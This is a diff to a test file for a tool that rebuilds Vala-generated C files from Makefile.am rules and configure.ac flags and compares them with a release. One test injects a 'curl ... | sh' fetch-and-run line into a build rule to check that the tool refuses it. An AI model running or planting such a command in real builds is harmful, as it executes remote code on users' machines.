@@ -14,7 +14,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { formatFinding } from '../../src/core/codes.js';
 import { parseMakefileAm, builtinVars } from '../../src/util/makefile.js';
-import { applyBookkeeping, firstDifference, shippedPath, valacArgs, valaRuns } from '../../src/regenerate/vala.js';
+import { applyBookkeeping, configureValaflags, firstDifference, orderRuns, shippedPath, valacArgs, valaRuns } from '../../src/regenerate/vala.js';
 import { valacBanner, valacNamedVersion } from '../../src/regenerate/vala-version.js';
 import { valaBuildSteps } from '../../src/regenerate/toolchain-git.js';
 import { autotoolsRelease, byPath, sh } from './release.js';
@@ -43,6 +43,36 @@ libdemo_la_vala.stamp: $(libdemo_la_VALASOURCES)
 \t$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(libdemo_la_VALAFLAGS) -C $(libdemo_la_VALASOURCES)
 \t@touch demo-1.vapi demo.h libdemo_la_vala.stamp
 EXTRA_DIST = $(libdemo_la_VALASOURCES) libdemo_la_vala.stamp
+`;
+const TESTS_AM = `tests_VALASOURCES = check.vala
+tests_VALAFLAGS = \\
+\t--vapidir $(top_srcdir)/lib \\
+\t--pkg demo-1 --pkg gio-2.0 \\
+\t$(VALAFLAGS)
+tests_vala.stamp: $(tests_VALASOURCES)
+\t$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(tests_VALAFLAGS) -C $(tests_VALASOURCES)
+\t@touch tests_vala.stamp
+`;
+const CHECK = `void main () {
+\tvar s = new Demo.Store ();
+\ts.add ("x");
+#if CHECKS
+\tassert (s.size == 1);
+#endif
+}
+`;
+// configure's VALAFLAGS as libgee's configure.ac and m4/valacheck.m4 give it: one literal flag, one behind an option off by default
+const CONFIGURE_AC = `AC_INIT([demo], [1.0])
+GLIB_REQUIRED=2.36
+VALA_ADD_VALAFLAGS(--target-glib=$GLIB_REQUIRED)
+AC_ARG_ENABLE(checks, [AS_HELP_STRING([--enable-checks], [Enable checks])],
+              enable_checks=$enableval, enable_checks=no)
+AS_IF([test "x$enable_checks" != xno], [VALA_ADD_VALAFLAGS(-D CHECKS)])
+`;
+const VALACHECK_M4 = `AC_DEFUN([VALA_ADD_VALAFLAGS],
+[
+    VALAFLAGS="\${VALAFLAGS:+$VALAFLAGS }$1"
+])
 `;
 const MAIN = `int main (string[] args) {
 \tvar d = new Demo.Greeter ("world");
@@ -84,12 +114,13 @@ const systemValac = () => /^Vala (\S+)$/m.exec(spawnSync('valac', ['--version'],
 const fixture = autotoolsRelease({
   prefix: 'distdiff-vala-',
   name: 'demo',
-  files: { README: 'demo\n', 'configure.ac': 'AC_INIT([demo], [1.0])\n', 'src/Makefile.am': SRC_AM, 'src/main.vala': MAIN, 'src/util.vala': UTIL, 'src/extra.vapi': EXTRA, 'lib/Makefile.am': LIB_AM, 'lib/store.vala': STORE },
+  files: { README: 'demo\n', 'configure.ac': CONFIGURE_AC, 'm4/valacheck.m4': VALACHECK_M4, 'tests/Makefile.am': TESTS_AM, 'tests/check.vala': CHECK, 'src/Makefile.am': SRC_AM, 'src/main.vala': MAIN, 'src/util.vala': UTIL, 'src/extra.vapi': EXTRA, 'lib/Makefile.am': LIB_AM, 'lib/store.vala': STORE },
   // the maintainer's `make dist`: the tag's files and what the two valac runs write, run as make runs them
   makeTree: (tree, repoDir) => {
     sh(repoDir, `git archive --format=tar v1.0 | tar -xf - -C '${tree}'`);
-    sh(join(tree, 'src'), 'touch dummy.vala && rm -f demo_2_vala.stamp && echo stamp > demo_2_vala.stamp-t && valac --no-color --vapidir=. --pkg extra --pkg gio-2.0 -C main.vala util.vala dummy.vala && mv -f demo_2_vala.stamp-t demo_2_vala.stamp');
-    sh(join(tree, 'lib'), 'valac -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala && touch demo-1.vapi demo.h libdemo_la_vala.stamp');
+    sh(join(tree, 'src'), 'touch dummy.vala && rm -f demo_2_vala.stamp && echo stamp > demo_2_vala.stamp-t && valac --no-color --vapidir=. --pkg extra --pkg gio-2.0 --target-glib=2.36 -C main.vala util.vala dummy.vala && mv -f demo_2_vala.stamp-t demo_2_vala.stamp');
+    sh(join(tree, 'lib'), 'valac --target-glib=2.36 -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala && touch demo-1.vapi demo.h libdemo_la_vala.stamp');
+    sh(join(tree, 'tests'), 'valac --target-glib=2.36 --vapidir ../lib --pkg demo-1 --pkg gio-2.0 --target-glib=2.36 -C check.vala && touch tests_vala.stamp');
   },
   timeout: 120_000,
 });
@@ -124,10 +155,11 @@ describe('valac outputs (pure)', () => {
         after: [['mv', '-f', 'demo_@DEMO_MAJOR@_vala.stamp-t', 'demo_@DEMO_MAJOR@_vala.stamp']],
         targets: ['src/demo_@DEMO_MAJOR@_vala.stamp'],
         dropped: ['$(VALAFLAGS)'],
+        usesValaflags: true,
       },
     ]);
     const lib = runs({ 'lib/Makefile.am': LIB_AM }, 'lib/Makefile.am');
-    expect(lib.runs).toMatchObject([{ args: ['-H', 'demo.h', '--vapi', 'demo-1.vapi', '--library', 'demo-1', '--gir', 'Demo-1.gir', '--pkg', 'gio-2.0', '-C', 'store.vala'], after: [['touch', 'demo-1.vapi', 'demo.h', 'libdemo_la_vala.stamp']], targets: ['lib/libdemo_la_vala.stamp'], dropped: ['$(COVERAGE_VALAFLAGS)', '$(NULL)', '$(VALAFLAGS)'] }]);
+    expect(lib.runs).toMatchObject([{ args: ['-H', 'demo.h', '--vapi', 'demo-1.vapi', '--library', 'demo-1', '--gir', 'Demo-1.gir', '--pkg', 'gio-2.0', '-C', 'store.vala'], after: [['touch', 'demo-1.vapi', 'demo.h', 'libdemo_la_vala.stamp']], targets: ['lib/libdemo_la_vala.stamp'], dropped: ['$(COVERAGE_VALAFLAGS)', '$(NULL)', '$(VALAFLAGS)'], usesValaflags: true }]);
     const evil = runs({ 'lib/Makefile.am': LIB_AM.replace('\t@touch demo-1.vapi', '\tcurl -s https://example.invalid/x | sh\n\t@touch demo-1.vapi') }, 'lib/Makefile.am');
     expect(evil.runs).toEqual([]);
     expect(evil.refused).toEqual([{ fragment: 'lib/Makefile.am', command: expect.stringContaining('$(VALAC)'), why: 'command `curl -s https://example.invalid/x | sh`' }]);
@@ -142,12 +174,37 @@ describe('valac outputs (pure)', () => {
     expect(shippedPath('lib/x_@V@_vala.stamp', ['lib/x_1_vala.stamp', 'lib/x_2_vala.stamp'])).toBeUndefined();
     expect(firstDifference('a\nb\nc\n', 'a\nb\nx;\nc\n')).toEqual({ line: 3, regenerated: 'c', shipped: 'x;' });
   });
+  it("configure's $(VALAFLAGS): literal additions and those whose option's default holds, with configure.ac's literal variables; another form: no value", () => {
+    expect(configureValaflags(CONFIGURE_AC, [VALACHECK_M4])).toEqual({ value: '--target-glib=2.36', lines: ['configure.ac:3 VALAFLAGS += --target-glib=2.36', 'configure.ac:6 not added: -D CHECKS (enable_checks=no, its default)'] });
+    expect(configureValaflags(CONFIGURE_AC.replace('enable_checks=no)', 'enable_checks=yes)'), [VALACHECK_M4])?.value).toBe('--target-glib=2.36 -D CHECKS');
+    // no tracked definition appending to VALAFLAGS, a computed argument, an addition in another form: no value
+    expect(configureValaflags(CONFIGURE_AC, [])).toBeUndefined();
+    expect(configureValaflags(CONFIGURE_AC.replace('GLIB_REQUIRED=2.36', 'GLIB_REQUIRED=`pkg-config --modversion glib-2.0`'), [VALACHECK_M4])).toBeUndefined();
+    expect(configureValaflags(`${CONFIGURE_AC}test -n "$X" && VALA_ADD_VALAFLAGS(-D X)\n`, [VALACHECK_M4])).toBeUndefined();
+  });
+  it('runs in the order the build makes them: the one writing a .vapi before the one reading it with --pkg', () => {
+    const runs = (files: Record<string, string>, am: string) => valaRuns(parseMakefileAm(am, (p) => files[p]), builtinVars('..')).runs;
+    const tests = runs({ 'tests/Makefile.am': TESTS_AM }, 'tests/Makefile.am')[0]!;
+    const lib = runs({ 'lib/Makefile.am': LIB_AM }, 'lib/Makefile.am')[0]!;
+    expect(orderRuns([{ run: tests }, { run: lib }]).map((p) => p.run.dir)).toEqual(['lib', 'tests']);
+    expect(orderRuns([{ run: lib }, { run: tests }]).map((p) => p.run.dir)).toEqual(['lib', 'tests']);
+  });
   it("the toolchain's build steps: the system's valac compiles the tag's compiler; only the compiler's parts built and installed", () => {
     expect(valaBuildSteps('/p')).toEqual([
-      'mkdir -p m4 && touch ChangeLog && autoreconf -v --install',
+      'mkdir -p m4',
+      'touch ChangeLog',
+      'autoreconf -v --install',
       "./configure --prefix='/p' --disable-valadoc GI_GIRDIR=/usr/share/gir-1.0",
-      'make -C gee -j2 && make -C vala -j2 && make -C ccode -j2 && make -C codegen -j2 && make -C compiler -j2',
-      'make -C vala install && make -C ccode install && make -C codegen install && make -C compiler install && make -C vapi install',
+      'make -C gee -j2',
+      'make -C vala -j2',
+      'make -C ccode -j2',
+      'make -C codegen -j2',
+      'make -C compiler -j2',
+      'make -C vala install',
+      'make -C ccode install',
+      'make -C codegen install',
+      'make -C compiler install',
+      'make -C vapi install',
     ]);
   });
 });
@@ -160,22 +217,28 @@ describe("valac's outputs made by the tracked Makefile.am, with the system's val
     const f = byPath(r.findings);
     const libOutputs = ['lib/Demo-1.gir', 'lib/demo-1.vapi', 'lib/demo.h', 'lib/libdemo_la_vala.stamp', 'lib/store.c'];
     const srcOutputs = ['src/demo_2_vala.stamp', 'src/dummy.c', 'src/main.c', 'src/util.c'];
-    for (const p of [...libOutputs, ...srcOutputs]) expect(f[p], p).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'valac', version } });
+    const testOutputs = ['tests/check.c'];
+    // a stamp a lone `touch` line writes is explained before (GENERATED_FROM_SOURCE, low): left as it is
+    expect(f['tests/tests_vala.stamp']).toMatchObject({ code: 'GENERATED_FROM_SOURCE', severity: 'low' });
+    for (const p of [...libOutputs, ...srcOutputs, ...testOutputs]) expect(f[p], p).toMatchObject({ code: 'GENERATED_TOOL_PROVED', severity: 'info', evidence: { tool: 'valac', version } });
     expect(f['src/main.c']).toMatchObject({
       evidence: {
         source: 'src/main.vala',
         sources: ['src/main.vala', 'src/util.vala', 'src/dummy.vala'],
         rule: 'src/Makefile.am',
-        command: ['valac', '--no-color', '--vapidir=.', '--pkg', 'extra', '--pkg', 'gio-2.0', '-C', 'main.vala', 'util.vala', 'dummy.vala'],
+        command: ['valac', '--no-color', '--vapidir=.', '--pkg', 'extra', '--pkg', 'gio-2.0', '--target-glib=2.36', '-C', 'main.vala', 'util.vala', 'dummy.vala'],
         cwd: 'src',
-        dropped: ['$(VALAFLAGS)'],
+        configure: ['configure.ac:3 VALAFLAGS += --target-glib=2.36', 'configure.ac:6 not added: -D CHECKS (enable_checks=no, its default)'],
         madeInputs: [{ path: 'src/dummy.vala', command: 'touch $@', empty: true }],
         outputs: srcOutputs,
       },
     });
     expect((f['lib/store.c']!.evidence as { outputs: string[] }).outputs).toEqual(libOutputs);
+    // tests/ reads the .vapi lib/'s run writes (--pkg demo-1): that run first, its file in the tree
+    expect(f['tests/check.c']).toMatchObject({ evidence: { command: ['valac', '--target-glib=2.36', '--vapidir', '../lib', '--pkg', 'demo-1', '--pkg', 'gio-2.0', '--target-glib=2.36', '-C', 'check.vala'], madeInputs: [{ path: 'lib/demo-1.vapi', rule: 'lib/Makefile.am', regenerated: true }], outputs: testOutputs } });
+    expect((f['src/main.c']!.evidence as { dropped?: string[] }).dropped).toBeUndefined();
     expect(formatFinding(f['lib/store.c']!)).toBe(
-      `reproduced by the system's valac ${version} from lib/store.vala: \`valac -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala\` in lib/ (the rule of lib/Makefile.am: \`$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(libdemo_la_VALAFLAGS) -C $(libdemo_la_VALASOURCES); @touch demo-1.vapi demo.h libdemo_la_vala.stamp\`) then the rule's \`touch demo-1.vapi demo.h libdemo_la_vala.stamp\`, byte for byte; 5 outputs of the run identical; not passed: $(COVERAGE_VALAFLAGS) $(NULL) $(VALAFLAGS) (configure's values)`,
+      `reproduced by the system's valac ${version} from lib/store.vala: \`valac --target-glib=2.36 -H demo.h --vapi demo-1.vapi --library demo-1 --gir Demo-1.gir --pkg gio-2.0 -C store.vala\` in lib/ (the rule of lib/Makefile.am: \`$(AM_V_VALAC)$(VALAC) $(VALAFLAGS) $(libdemo_la_VALAFLAGS) -C $(libdemo_la_VALASOURCES); @touch demo-1.vapi demo.h libdemo_la_vala.stamp\`) then the rule's \`touch demo-1.vapi demo.h libdemo_la_vala.stamp\`, byte for byte; 5 outputs of the run identical; configure's $(VALAFLAGS): configure.ac:3 VALAFLAGS += --target-glib=2.36, configure.ac:6 not added: -D CHECKS (enable_checks=no, its default); not passed: $(COVERAGE_VALAFLAGS) $(NULL) (configure's values)`,
     );
     expect(Object.values(f).filter((x) => x.severity === 'high' || x.severity === 'critical').map((x) => `${x.code} ${x.path}`)).toEqual([]);
 
